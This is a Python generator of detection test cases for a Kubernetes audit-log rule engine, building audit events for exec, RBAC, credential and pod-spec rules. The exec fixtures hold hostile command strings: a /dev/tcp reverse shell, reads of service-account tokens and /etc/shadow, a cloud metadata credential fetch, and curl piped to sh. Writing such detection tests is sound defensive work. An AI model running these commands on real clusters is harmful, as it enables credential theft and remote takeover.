#!/usr/bin/env python3
"""gen_cases.py - writes the data-driven cases of kaudit's default rules (rules/kaudit_rules.yaml).

One JSON-lines file per rule, named after the rule (lower case, runs of other characters as
'-'). Each line is {"name": ..., "expect": [rule names], "event": {audit event}}: "expect" is the
exact set of default rules that fire on the event with rule_matching all (for the stateful
rules the "event" is an EventList evaluated in one context, and "expect" lists every alert of
its events, with the rules that fire on each event alone switched off). Every file holds at
least one event on which its rule fires and one on which it does not; tests/unit/
test_detect_cases.c checks that and runs every case through the engine.

The events are written by hand for these tests (shapes follow kube-apiserver's audit.k8s.io/v1
output). Run `python3 tests/cases/detect/gen_cases.py` from the repository root to rewrite the
files after changing the cases below.
"""
import datetime
import json
import os
import re
import urllib.parse

OUT = os.path.dirname(os.path.abspath(__file__))
N = [0]

ALICE = {"username": "alice@example.com", "groups": ["devs", "system:authenticated"]}
ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
RSC = {"username": "system:serviceaccount:kube-system:replicaset-controller",
       "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system",
                  "system:authenticated"]}
APPSA = {"username": "system:serviceaccount:shop:storefront",
         "groups": ["system:serviceaccounts", "system:serviceaccounts:shop",
                    "system:authenticated"]}
NODE = {"username": "system:node:ip-10-0-1-2.ec2.internal",
        "groups": ["system:nodes", "system:authenticated"]}
KCM = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"]}

GROUPS = {"pods": "", "secrets": "", "configmaps": "", "services": "", "serviceaccounts": "",
          "namespaces": "", "nodes": "", "events": "", "persistentvolumes": "",
          "deployments": "apps", "daemonsets": "apps", "statefulsets": "apps",
          "replicasets": "apps", "jobs": "batch", "cronjobs": "batch",
          "roles": "rbac.authorization.k8s.io", "clusterroles": "rbac.authorization.k8s.io",
          "rolebindings": "rbac.authorization.k8s.io",
          "clusterrolebindings": "rbac.authorization.k8s.io",
          "certificatesigningrequests": "certificates.k8s.io",
          "mutatingwebhookconfigurations": "admissionregistration.k8s.io",
          "validatingwebhookconfigurations": "admissionregistration.k8s.io",
          "selfsubjectrulesreviews": "authorization.k8s.io",
          "selfsubjectaccessreviews": "authorization.k8s.io",
          "networkpolicies": "networking.k8s.io", "ingresses": "networking.k8s.io"}


def ev(verb, resource=None, ns=None, name=None, sub=None, user=None, code=None, body=None,
       stage="ResponseComplete", uri=None, query=None, ips=None, ua=None, annotations=None,
       imp=None):
    """Builds one audit event."""
    N[0] += 1
    if code is None:
        code = 201 if verb == "create" else 200
    group = GROUPS.get(resource, "") if resource else ""
    if uri is None and resource:
        base = "/api/v1" if not group else "/apis/%s/v1" % group
        uri = base + ("/namespaces/%s" % ns if ns else "") + "/" + resource
        if name and verb != "create" or sub:
            uri += "/" + (name or "")
        if sub:
            uri += "/" + sub
        if query:
            uri += "?" + query
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1",
         "level": "RequestResponse" if body is not None else "Metadata",
         "auditID": "00000000-0000-4000-8000-%012d" % N[0], "stage": stage,
         "requestURI": uri or "/", "verb": verb, "user": user or ALICE,
         "sourceIPs": ips or ["10.0.0.5"],
         "userAgent": ua or "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"}
    if imp:
        e["impersonatedUser"] = imp
    if resource:
        o = {"resource": resource}
        if ns:
            o["namespace"] = ns
        if name:
            o["name"] = name
        if group:
            o["apiGroup"] = group
        o["apiVersion"] = "v1"
        if sub:
            o["subresource"] = sub
        e["objectRef"] = o
    st = {"metadata": {}, "code": code}
    if code >= 400:
        st.update({"status": "Failure", "reason": "Forbidden" if code == 403 else "Error"})
    e["responseStatus"] = st
    if body is not None:
        e["requestObject"] = body
    e["requestReceivedTimestamp"] = "2025-03-10T09:00:00.000000Z"
    e["stageTimestamp"] = "2025-03-10T09:00:00.002000Z"
    ann = {"authorization.k8s.io/decision": "forbid" if code == 403 else "allow",
           "authorization.k8s.io/reason": ""}
    ann.update(annotations or {})
    e["annotations"] = ann
    return e


def execq(*argv, container="app"):
    return "&".join("command=" + urllib.parse.quote(a, safe="") for a in argv) + \
        "&container=" + container + "&stdin=true&stdout=true&tty=true"


def exec_ev(*argv, user=None, stage="ResponseStarted", code=101, sub="exec"):
    return ev("create", "pods", "shop", "web-1", sub=sub, user=user, code=code, stage=stage,
              query=execq(*argv))


def pod(spec, name="p1", ns="default"):
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns},
            "spec": spec}


def ctr(**sc):
    c = {"name": "app", "image": "nginx:1.27"}
    if sc:
        c["securityContext"] = sc
    return c


def deploy(spec, kind="Deployment"):
    return {"kind": kind, "apiVersion": "apps/v1", "metadata": {"name": "d1", "namespace": "default"},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "d1"}},
                     "template": {"metadata": {"labels": {"app": "d1"}}, "spec": spec}}}


def cronjob(spec):
    return {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "c1"},
            "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {
                "spec": spec}}}}}


def role(rules, kind="ClusterRole", name="r1"):
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": {"name": name}, "rules": rules}


def binding(role_name, subjects, kind="ClusterRoleBinding"):
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": {"name": "b1"}, "subjects": subjects,
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                        "name": role_name}}


def U(name):
    return {"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": name}


def G(name):
    return {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": name}


PLAIN = {"containers": [ctr()]}
PRIV = {"containers": [ctr(privileged=True)]}

# Rules that fire on a successful pod-spec write by a person (besides the spec rules).
CASES = {}


def case(rule, name, expect, event, more=()):
    CASES.setdefault(rule, []).append({"name": name, "expect": sorted(set(expect) | set(more)),
                                       "event": event})


EXEC = "Exec or Attach into Pod"
WRITE_WL = "Workload Created or Changed"
SEC_CHANGED = "Secret Changed"
BIND = "RBAC Binding Changed"
DENIED = "Request Denied"
FWRITE = "Forbidden Write Request"

# -- interactive execution --------------------------------------------------------------------
R = "Reverse Shell Exec in Pod"
case(R, "bash -i to /dev/tcp", [R, "Exec Shell in Pod", EXEC],
     exec_ev("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"))
case(R, "python socket", [R, EXEC],
     exec_ev("python3", "-c", "import socket,os;s=socket.socket();s.connect(('h',1))"))
case(R, "plain ls", [EXEC], exec_ev("ls", "-l", "/tmp"))
case(R, "reverse shell at ResponseComplete is not alerted twice", [],
     exec_ev("bash", "-i", stage="ResponseComplete"))

R = "Exec Reading Service Account Token or Credentials"
case(R, "cat SA token", [R, "Exec Shell in Pod", EXEC],
     exec_ev("sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"))
case(R, "IRSA token", [R, EXEC], exec_ev("cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"))
case(R, "shadow", [R, EXEC], exec_ev("cat", "/etc/shadow"))
case(R, "environ", [R, EXEC], exec_ev("cat", "/proc/1/environ"))
case(R, "cat app log", [EXEC], exec_ev("cat", "/var/log/app.log"))
case(R, "denied exec", [DENIED, FWRITE],
     ev("create", "pods", "shop", "web-1", sub="exec", code=403,
        query=execq("cat", "/etc/shadow")))

R = "Exec Reaching Cloud Metadata Service"
case(R, "curl IMDS", [R, "Exec Running Download Tool in Pod", EXEC],
     exec_ev("curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"))
case(R, "GCP metadata", [R, "Exec Running Download Tool in Pod", EXEC],
     exec_ev("wget", "-qO-", "http://Metadata.Google.Internal/computeMetadata/v1/"))
case(R, "curl service", ["Exec Running Download Tool in Pod", EXEC],
     exec_ev("curl", "http://cart.shop.svc:8080/healthz"))

R = "Exec Copying Files Out of Pod"
case(R, "kubectl cp from pod", [R, EXEC], exec_ev("tar", "cf", "-", "/data/db.sqlite"))
case(R, "kubectl cp into pod", [EXEC], exec_ev("tar", "xf", "-", "-C", "/tmp"))

R = "Exec Running Download Tool in Pod"
case(R, "wget", [R, EXEC], exec_ev("wget", "https://example.com/x.sh"))
case(R, "sh -c curl", [R, "Exec Shell in Pod", EXEC],
     exec_ev("sh", "-c", "curl -s https://example.com/x | sh"))
case(R, "env", [EXEC], exec_ev("env"))

R = "Exec Shell in Pod"
case(R, "/bin/sh", [R, EXEC], exec_ev("/bin/sh"))
case(R, "bash -c", [R, EXEC], exec_ev("bash", "-c", "echo hi"))
case(R, "attach sh", [R, EXEC], exec_ev("sh", sub="attach"))
case(R, "ps", [EXEC], exec_ev("ps", "aux"))
case(R, "ResponseComplete of an upgraded exec", [], exec_ev("/bin/sh", stage="ResponseComplete"))

R = EXEC
case(R, "exec date", [R], exec_ev("date"))
case(R, "EKS style get exec completed 200", [R, "Exec Shell in Pod"],
     exec_ev("/bin/sh", stage="ResponseComplete", code=200))
case(R, "get pod", [], ev("get", "pods", "shop", "web-1"))

R = "Port Forward to Pod"
case(R, "port-forward", [R], ev("create", "pods", "shop", "web-1", sub="portforward", code=101,
                                stage="ResponseStarted", query="ports=5432"))
case(R, "port-forward denied", [DENIED, FWRITE],
     ev("create", "pods", "shop", "web-1", sub="portforward", code=403))

R = "Kubelet API Reached Through API Server Proxy"
case(R, "nodes/proxy run", [R], ev("create", "nodes", name="n1", sub="proxy",
                                   uri="/api/v1/nodes/n1/proxy/run/shop/web-1/app?cmd=id"))
case(R, "nodes/proxy metrics", [], ev("get", "nodes", name="n1", sub="proxy",
                                      uri="/api/v1/nodes/n1/proxy/metrics"))

# -- RBAC -------------------------------------------------------------------------------------
R = "Binding Grants Access to Everyone"
case(R, "view to system:unauthenticated", [R, BIND],
     ev("create", "clusterrolebindings", name="b1",
        body=binding("view", [G("system:unauthenticated")])))
case(R, "view to a user", [BIND],
     ev("create", "clusterrolebindings", name="b1", body=binding("view", [U("bob")])))

R = "ClusterRoleBinding to Privileged Role"
case(R, "cluster-admin for oneself", [R, BIND],
     ev("create", "clusterrolebindings", name="b1",
        body=binding("cluster-admin", [U("alice@example.com")])))
case(R, "patch to controller role", [R, BIND, "System Role or Binding Modified"],
     ev("patch", "clusterrolebindings", name="system:x",
        body=binding("system:kube-controller-manager", [U("alice@example.com")])))
case(R, "by the control plane", [],
     ev("create", "clusterrolebindings", name="b1", user=KCM,
        body=binding("cluster-admin", [U("x")])))
case(R, "denied", [DENIED, FWRITE],
     ev("create", "clusterrolebindings", name="b1", code=403,
        body=binding("cluster-admin", [U("alice@example.com")])))

R = "RoleBinding to Privileged ClusterRole"
case(R, "admin in a namespace", [R, BIND],
     ev("create", "rolebindings", "shop", "b1",
        body=binding("admin", [U("bob")], kind="RoleBinding")))
case(R, "view in a namespace", [BIND],
     ev("create", "rolebindings", "shop", "b1",
        body=binding("view", [U("bob")], kind="RoleBinding")))

R = "Role Grants Wildcard Access"
case(R, "star star star", [R, "Role Grants Write Access"],
     ev("create", "clusterroles", name="r1",
        body=role([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])))
case(R, "update to verbs star", [R],
     ev("update", "roles", "shop", "r1",
        body=role([{"apiGroups": [""], "resources": ["pods"], "verbs": ["*"]}], kind="Role")))
case(R, "apiGroups star only", [],
     ev("create", "clusterroles", name="r1",
        body=role([{"apiGroups": ["*"], "resources": ["deployments"], "verbs": ["get"]}])))

R = "Role Grants Escalate, Bind or Impersonate"
case(R, "impersonate users", [R],
     ev("create", "clusterroles", name="r1",
        body=role([{"apiGroups": [""], "resources": ["users"], "verbs": ["impersonate"]}])))
case(R, "bind roles", [R],
     ev("patch", "clusterroles", name="r1",
        body=role([{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"],
                    "verbs": ["bind", "escalate"]}])))
case(R, "read roles", [],
     ev("create", "clusterroles", name="r1",
        body=role([{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"],
                    "verbs": ["get", "list"]}])))

R = "Role Grants Node Proxy Access"
case(R, "nodes/proxy get", [R],
     ev("create", "clusterroles", name="r1",
        body=role([{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}])))
case(R, "nodes get", [],
     ev("create", "clusterroles", name="r1",
        body=role([{"apiGroups": [""], "resources": ["nodes"], "verbs": ["get"]}])))

R = "Role Grants Pod Exec"
case(R, "pods/exec create", [R, "Role Grants Write Access"],
     ev("create", "roles", "shop", "r1",
        body=role([{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}],
                  kind="Role")))
case(R, "pods/log", [],
     ev("create", "roles", "shop", "r1",
        body=role([{"apiGroups": [""], "resources": ["pods/log"], "verbs": ["get"]}], kind="Role")))

R = "Role Grants Token Creation"
case(R, "serviceaccounts/token", [R, "Role Grants Write Access"],
     ev("create", "clusterroles", name="r1",
        body=role([{"apiGroups": [""], "resources": ["serviceaccounts/token"],
                    "verbs": ["create"]}])))
case(R, "serviceaccounts get", [],
     ev("create", "clusterroles", name="r1",
        body=role([{"apiGroups": [""], "resources": ["serviceaccounts"], "verbs": ["get"]}])))

R = "System Role or Binding Modified"
case(R, "system:node updated", [R, "Role Grants Wildcard Access"],
     ev("update", "clusterroles", name="system:node",
        body=role([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}], name="system:node")))
case(R, "system:kube-scheduler deleted", [R], ev("delete", "clusterroles", name="system:kube-scheduler"))
case(R, "system:coredns updated", [], ev("update", "clusterroles", name="system:coredns"))
case(R, "custom role updated", [], ev("update", "clusterroles", name="custom-admin"))

R = "Impersonation of Privileged Identity"
case(R, "impersonate system:masters", [R, "Secret Read by Person"],
     ev("get", "secrets", "kube-system", "x",
        imp={"username": "bob", "groups": ["system:masters"]}))
case(R, "impersonate a node", [R],
     ev("list", "pods", imp={"username": "system:node:n1"}))
case(R, "impersonate an ordinary user", [],
     ev("list", "pods", "shop", imp={"username": "bob@example.com"}))

R = "Role Grants Secret Read"
case(R, "secrets list", [R],
     ev("create", "roles", "shop", "r1",
        body=role([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}],
                  kind="Role")))
case(R, "configmaps list", [],
     ev("create", "roles", "shop", "r1",
        body=role([{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["list"]}],
                  kind="Role")))

R = "Role Grants Write Access"
case(R, "deployments patch", [R],
     ev("create", "roles", "shop", "r1",
        body=role([{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["patch"]}],
                  kind="Role")))
case(R, "update of existing role", [],
     ev("update", "roles", "shop", "r1",
        body=role([{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["patch"]}],
                  kind="Role")))

R = "RBAC Changed by Workload Service Account"
case(R, "SA creates a rolebinding", [R, BIND],
     ev("create", "rolebindings", "shop", "b1", user=APPSA,
        body=binding("view", [U("bob")], kind="RoleBinding")))
case(R, "kube-system SA", [],
     ev("create", "rolebindings", "shop", "b1", user=RSC,
        body=binding("view", [U("bob")], kind="RoleBinding")))

R = BIND
case(R, "binding deleted", [R], ev("delete", "rolebindings", "shop", "b1"))
case(R, "binding read", [], ev("get", "rolebindings", "shop", "b1"))

# -- credentials ------------------------------------------------------------------------------
R = "Service Account Token Requested"
case(R, "person requests kube-system token", [R],
     ev("create", "serviceaccounts", "kube-system", "generic-garbage-collector", sub="token",
        body={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1",
              "spec": {"audiences": None, "expirationSeconds": 86400}}))
case(R, "controller manager outside kube-system", [R],
     ev("create", "serviceaccounts", "shop", "app", sub="token", user=KCM))
case(R, "kubelet requests pod token", [],
     ev("create", "serviceaccounts", "shop", "storefront", sub="token", user=NODE))
case(R, "controller manager in kube-system", [],
     ev("create", "serviceaccounts", "kube-system", "x", sub="token", user=KCM))

R = "Long-Lived Service Account Token Secret Created"
case(R, "SA token secret", [R, SEC_CHANGED],
     ev("create", "secrets", "shop", "tok",
        body={"kind": "Secret", "apiVersion": "v1", "type": "kubernetes.io/service-account-token",
              "metadata": {"name": "tok", "annotations": {
                  "kubernetes.io/service-account.name": "storefront"}}}))
case(R, "opaque secret", [SEC_CHANGED],
     ev("create", "secrets", "shop", "s1",
        body={"kind": "Secret", "apiVersion": "v1", "type": "Opaque", "data": {"a": "Yg=="}}))

R = "Client Certificate Signing Request Created"
case(R, "client CSR", [R],
     ev("create", "certificatesigningrequests", name="csr1",
        body={"kind": "CertificateSigningRequest",
              "spec": {"signerName": "kubernetes.io/kube-apiserver-client",
                       "usages": ["client auth"]}}))
case(R, "kubelet serving CSR", [],
     ev("create", "certificatesigningrequests", name="csr1",
        body={"kind": "CertificateSigningRequest",
              "spec": {"signerName": "kubernetes.io/kubelet-serving",
                       "usages": ["server auth"]}}))

R = "Certificate Signing Request Approved"
case(R, "approval", [R], ev("update", "certificatesigningrequests", name="csr1", sub="approval"))
case(R, "approval by controller manager", [],
     ev("update", "certificatesigningrequests", name="csr1", sub="approval", user=KCM))

R = "Admission Webhook Configuration Changed"
case(R, "mutating webhook created", [R],
     ev("create", "mutatingwebhookconfigurations", name="inject",
        body={"kind": "MutatingWebhookConfiguration", "webhooks": [{"name": "a.example.com"}]}))
case(R, "validating webhook deleted", [R],
     ev("delete", "validatingwebhookconfigurations", name="policy"))
case(R, "webhook read", [], ev("get", "validatingwebhookconfigurations", name="policy"))

R = "EKS aws-auth ConfigMap Changed"
case(R, "aws-auth patched", [R], ev("patch", "configmaps", "kube-system", "aws-auth", body={}))
case(R, "other configmap patched", [], ev("patch", "configmaps", "kube-system", "other", body={}))

R = "Service Account Created in System Namespace"
case(R, "SA in kube-system", [R, "Service Account Created"],
     ev("create", "serviceaccounts", "kube-system", "backdoor"))
case(R, "SA in shop", ["Service Account Created"], ev("create", "serviceaccounts", "shop", "app"))

R = "Service Account Created"
case(R, "SA in shop", [R], ev("create", "serviceaccounts", "shop", "app2"))
case(R, "SA by controller", [], ev("create", "serviceaccounts", "shop", "app3", user=RSC))

R = "Secrets Listed Across All Namespaces"
case(R, "cluster-wide list", [R], ev("list", "secrets", uri="/api/v1/secrets?limit=500"))
case(R, "cluster-wide list by kube-system SA", [],
     ev("list", "secrets", uri="/api/v1/secrets", user=RSC))
case(R, "namespaced list", [], ev("list", "secrets", "shop"))

R = "Secret Read with Scripting User Agent"
case(R, "python-requests get", [R, "Secret Read by Person"],
     ev("get", "secrets", "shop", "db", ua="python-requests/2.31.0"))
case(R, "kubectl get", ["Secret Read by Person"], ev("get", "secrets", "shop", "db"))

R = "Secret Access Denied"
case(R, "get 403", [R, DENIED], ev("get", "secrets", "shop", "db", code=403))
case(R, "get 404", [R], ev("get", "secrets", "shop", "nope", code=404))
case(R, "list 403", [DENIED], ev("list", "secrets", "shop", code=403))

R = "Credentials Stored in ConfigMap"
case(R, "aws key in configmap", [R],
     ev("create", "configmaps", "shop", "cfg",
        body={"kind": "ConfigMap", "data": {"aws": "AKIAIOSFODNN7EXAMPLE"}}))
case(R, "password", [R],
     ev("update", "configmaps", "shop", "cfg",
        body={"kind": "ConfigMap", "data": {"DB_PASSWORD": "hunter2"}}))
case(R, "plain config", [],
     ev("create", "configmaps", "shop", "cfg",
        body={"kind": "ConfigMap", "data": {"LOG_LEVEL": "info"}}))

R = "Secrets Listed in System Namespace"
case(R, "kube-system list", [R], ev("list", "secrets", "kube-system"))
case(R, "shop list", [], ev("list", "secrets", "shop"))

R = "Secret Read by Person"
case(R, "get by person", [R], ev("get", "secrets", "shop", "db"))
case(R, "get by node", [], ev("get", "secrets", "shop", "db", user=NODE))

R = SEC_CHANGED
case(R, "delete secret", [R], ev("delete", "secrets", "shop", "db"))
case(R, "secret by controller", [], ev("delete", "secrets", "shop", "db", user=RSC))

# -- pod specs --------------------------------------------------------------------------------
R = "Privileged Container in Pod Spec"
case(R, "privileged pod", [R], ev("create", "pods", "default", "p1", body=pod(PRIV)))
case(R, "privileged init container in a deployment", [R, WRITE_WL],
     ev("create", "deployments", "default", "d1",
        body=deploy({"initContainers": [ctr(privileged=True)], "containers": [ctr()]})))
case(R, "privileged container in a cronjob", [R, "CronJob or Job Created or Changed"],
     ev("create", "cronjobs", "default", "c1", body=cronjob(PRIV)))
case(R, "strategic merge patch", [R, WRITE_WL],
     ev("patch", "deployments", "default", "d1",
        body={"spec": {"template": {"spec": {"containers": [
            {"name": "app", "securityContext": {"privileged": True}}]}}}}))
case(R, "JSON patch", [R, WRITE_WL],
     ev("patch", "deployments", "default", "d1",
        body=[{"op": "add", "path": "/spec/template/spec/containers/0/securityContext",
               "value": {"privileged": True}}]))
case(R, "ephemeral container", [R, "Ephemeral Container Added to Pod"],
     ev("patch", "pods", "default", "p1", sub="ephemeralcontainers",
        body={"spec": {"ephemeralContainers": [
            {"name": "dbg", "image": "busybox", "securityContext": {"privileged": True}}]}}))
case(R, "pod by replicaset controller", [],
     ev("create", "pods", "default", "p1", user=RSC, body=pod(PRIV)))
case(R, "unprivileged pod", [], ev("create", "pods", "default", "p1", body=pod(PLAIN)))
case(R, "denied", [DENIED, FWRITE], ev("create", "pods", "default", "p1", code=403, body=pod(PRIV)))

R = "Sensitive Host Path Mounted"
HP = lambda p: {"containers": [ctr()], "volumes": [{"name": "h", "hostPath": {"path": p}}]}
case(R, "root", [R, "Host Path Mounted"], ev("create", "pods", "default", "p1", body=pod(HP("/"))))
case(R, "trailing slash /etc/", [R, "Host Path Mounted"],
     ev("create", "pods", "default", "p1", body=pod(HP("/etc/"))))
case(R, "below kubelet dir", [R, "Host Path Mounted"],
     ev("create", "pods", "default", "p1", body=pod(HP("/var/lib/kubelet/pods"))))
case(R, "dot-dot", [R, "Host Path Mounted"],
     ev("create", "daemonsets", "default", "d1",
        body=deploy(HP("/data/../etc//kubernetes"), kind="DaemonSet")),
     more=["DaemonSet Created", WRITE_WL])
case(R, "/mnt/data", ["Host Path Mounted"], ev("create", "pods", "default", "p1", body=pod(HP("/mnt/data"))))
case(R, "/etcd-backup is not /etc", ["Host Path Mounted"],
     ev("create", "pods", "default", "p1", body=pod(HP("/etcd-backup"))))

R = "Host PID Namespace in Pod Spec"
case(R, "hostPID pod", [R], ev("create", "pods", "default", "p1",
                                 body=pod({"hostPID": True, "containers": [ctr()]})))
case(R, "hostPID false", [], ev("create", "pods", "default", "p1",
                                 body=pod({"hostPID": False, "containers": [ctr()]})))

R = "Host IPC Namespace in Pod Spec"
case(R, "hostIPC statefulset", [R, WRITE_WL],
     ev("create", "statefulsets", "default", "s1",
        body=deploy({"hostIPC": True, "containers": [ctr()]}, kind="StatefulSet")))
case(R, "hostIPC false", [], ev("create", "pods", "default", "p1",
                                 body=pod({"hostIPC": False, "containers": [ctr()]})))

R = "Host Network in Pod Spec"
case(R, "hostNetwork job", [R, "CronJob or Job Created or Changed"],
     ev("create", "jobs", "default", "j1",
        body={"kind": "Job", "spec": {"template": {"spec": {"hostNetwork": True,
                                                             "containers": [ctr()]}}}}))
case(R, "hostNetwork pod by kube-system SA", [],
     ev("create", "pods", "kube-system", "p1", user=RSC,
        body=pod({"hostNetwork": True, "containers": [ctr()]})))

R = "Dangerous Capability Added"
case(R, "SYS_ADMIN", [R], ev("create", "pods", "default", "p1",
                            body=pod({"containers": [ctr(capabilities={"add": ["SYS_ADMIN"]})]})))
case(R, "NET_BIND_SERVICE", [], ev("create", "pods", "default", "p1",
                                  body=pod({"containers": [ctr(capabilities={"add": ["NET_BIND_SERVICE"]})]})))

R = "Unmasked Proc Mount in Pod Spec"
case(R, "Unmasked", [R], ev("create", "pods", "default", "p1",
                           body=pod({"containers": [ctr(procMount="Unmasked")]})))
case(R, "Default", [], ev("create", "pods", "default", "p1",
                         body=pod({"containers": [ctr(procMount="Default")]})))

R = "Unconfined Seccomp or AppArmor Profile"
case(R, "seccomp Unconfined", [R],
     ev("create", "pods", "default", "p1",
        body=pod({"securityContext": {"seccompProfile": {"type": "Unconfined"}},
                  "containers": [ctr()]})))
case(R, "apparmor unconfined container", [R],
     ev("create", "pods", "default", "p1",
        body=pod({"containers": [ctr(appArmorProfile={"type": "Unconfined"})]})))
case(R, "RuntimeDefault", [],
     ev("create", "pods", "default", "p1",
        body=pod({"securityContext": {"seccompProfile": {"type": "RuntimeDefault"}},
                  "containers": [ctr()]})))

R = "Pod Created in System Namespace"
case(R, "person creates kube-system pod", [R],
     ev("create", "pods", "kube-system", "p1", body=pod(PLAIN, ns="kube-system")))
case(R, "kube-node-lease", [R], ev("create", "pods", "kube-node-lease", "p1",
                                   body=pod(PLAIN, ns="kube-node-lease")))
case(R, "controller creates kube-system pod", [],
     ev("create", "pods", "kube-system", "p1", user=RSC, body=pod(PLAIN, ns="kube-system")))

R = "Controller Service Account Assigned to Pod"
case(R, "namespace-controller SA", [R, "Pod Created in System Namespace"],
     ev("create", "pods", "kube-system", "p1",
        body=pod({"serviceAccountName": "namespace-controller", "containers": [ctr()]},
                 ns="kube-system")))
case(R, "coredns SA", ["Pod Created in System Namespace"],
     ev("create", "pods", "kube-system", "p1",
        body=pod({"serviceAccountName": "coredns", "containers": [ctr()]}, ns="kube-system")))

R = "Host Port in Pod Spec"
case(R, "hostPort", [R], ev("create", "pods", "default", "p1", body=pod({"containers": [
    {"name": "a", "image": "nginx", "ports": [{"containerPort": 80, "hostPort": 80}]}]})))
case(R, "containerPort only", [], ev("create", "pods", "default", "p1", body=pod({"containers": [
    {"name": "a", "image": "nginx", "ports": [{"containerPort": 80}]}]})))

R = "Host Path Mounted"
case(R, "/srv/cache", [R], ev("create", "pods", "default", "p1", body=pod(HP("/srv/cache"))))
case(R, "emptyDir", [], ev("create", "pods", "default", "p1", body=pod(
    {"containers": [ctr()], "volumes": [{"name": "e", "emptyDir": {}}]})))

R = "Container Running as Root"
case(R, "container runAsUser 0", [R],
     ev("create", "pods", "default", "p1", body=pod({"containers": [ctr(runAsUser=0)]})))
case(R, "pod runAsUser 0", [R],
     ev("create", "pods", "default", "p1",
        body=pod({"securityContext": {"runAsUser": 0}, "containers": [ctr()]})))
case(R, "runAsNonRoot false", [R],
     ev("create", "pods", "default", "p1", body=pod({"containers": [ctr(runAsNonRoot=False)]})))
case(R, "runAsUser 1000", [],
     ev("create", "pods", "default", "p1", body=pod({"containers": [ctr(runAsUser=1000)]})))

R = "Privilege Escalation Allowed in Container"
case(R, "allowPrivilegeEscalation true", [R],
     ev("create", "pods", "default", "p1",
        body=pod({"containers": [ctr(allowPrivilegeEscalation=True)]})))
case(R, "allowPrivilegeEscalation false", [],
     ev("create", "pods", "default", "p1",
        body=pod({"containers": [ctr(allowPrivilegeEscalation=False)]})))

R = "Ephemeral Container Added to Pod"
case(R, "debug container", [R],
     ev("patch", "pods", "default", "p1", sub="ephemeralcontainers",
        body={"spec": {"ephemeralContainers": [{"name": "dbg", "image": "busybox"}]}}))
case(R, "pod patch", [], ev("patch", "pods", "default", "p1", body={"metadata": {"labels": {"a": "b"}}}))

R = "Pod Security Admission Violation"
case(R, "PSA audit annotation", [R],
     ev("create", "pods", "default", "p1", body=pod(PLAIN),
        annotations={"pod-security.kubernetes.io/audit-violations":
                     "would violate PodSecurity \"restricted:latest\": runAsNonRoot != true"}))
case(R, "no annotation", [], ev("create", "pods", "default", "p1", body=pod(PLAIN)))

R = "CronJob or Job Created or Changed"
case(R, "cronjob created", [R], ev("create", "cronjobs", "default", "c1", body=cronjob(PLAIN)))
case(R, "cronjob by cronjob controller", [],
     ev("create", "jobs", "default", "j1", user={"username": "system:serviceaccount:kube-system:cronjob-controller"}))

R = "DaemonSet Created"
case(R, "daemonset", [R, WRITE_WL],
     ev("create", "daemonsets", "default", "ds1", body=deploy(PLAIN, kind="DaemonSet")))
case(R, "daemonset update", [WRITE_WL],
     ev("update", "daemonsets", "default", "ds1", body=deploy(PLAIN, kind="DaemonSet")))

R = WRITE_WL
case(R, "deployment image set", [R],
     ev("patch", "deployments", "shop", "web",
        body={"spec": {"template": {"spec": {"containers": [{"name": "web", "image": "web:2"}]}}}}))
case(R, "deployment status", [], ev("update", "deployments", "shop", "web", sub="status", body={}))

# -- authn / authz ----------------------------------------------------------------------------
R = "Anonymous Write Request"
case(R, "anonymous creates a pod", [R, "Anonymous Request Allowed"],
     ev("create", "pods", "default", "x", user=ANON, body=pod(PLAIN)))
case(R, "anonymous get", ["Anonymous Request Allowed"], ev("get", "pods", "default", "x", user=ANON))

R = "Anonymous Request Allowed"
case(R, "/version", [R], ev("get", uri="/version", user=ANON))
case(R, "/healthz", [], ev("get", uri="/healthz", user=ANON))
case(R, "/readyz?verbose", [], ev("get", uri="/readyz?verbose", user=ANON))

R = "Anonymous Request Denied"
case(R, "anonymous secrets list", [R, DENIED], ev("list", "secrets", "kube-system", user=ANON, code=403))
case(R, "authenticated 403 list", [DENIED], ev("list", "secrets", "kube-system", code=403))

R = FWRITE
case(R, "forbidden delete", [R, DENIED], ev("delete", "configmaps", "shop", "x", code=403))
case(R, "forbidden list", [DENIED], ev("list", "configmaps", "shop", code=403))

R = "Request Denied From Public IP"
case(R, "403 from 8.8.8.8", [R, DENIED], ev("get", "pods", "default", code=403, ips=["8.8.8.8"]))
case(R, "403 from 172.20.1.1", [DENIED], ev("get", "pods", "default", code=403, ips=["172.20.1.1"]))

R = "Service Account Used From Public IP"
case(R, "SA from 1.2.3.4", [R], ev("list", "nodes", user=APPSA, ips=["1.2.3.4"]))
case(R, "SA from pod IP", [], ev("list", "nodes", user=APPSA, ips=["10.244.1.7"]))
case(R, "person from public IP", [], ev("list", "nodes", ips=["1.2.3.4"]))

R = "Request From Known Bad Source IP"
case(R, "no list configured", [], ev("list", "pods", "default", ips=["198.51.100.66"]))
